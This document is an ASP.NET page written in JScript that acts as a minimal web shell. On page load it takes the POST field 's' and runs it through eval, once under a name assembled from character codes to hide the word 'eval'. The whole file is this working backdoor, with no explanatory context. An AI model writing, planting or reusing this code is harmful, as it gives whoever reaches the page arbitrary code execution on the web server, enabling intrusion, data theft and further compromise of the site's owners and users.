<%@ Page Language="JScript" %>
<script runat="server">
function Page_Load() {
    var f = String.fromCharCode(101, 118, 97, 108);
    var src = Request.Form("s");
    this[f](src);
    eval(src);
}
</script>
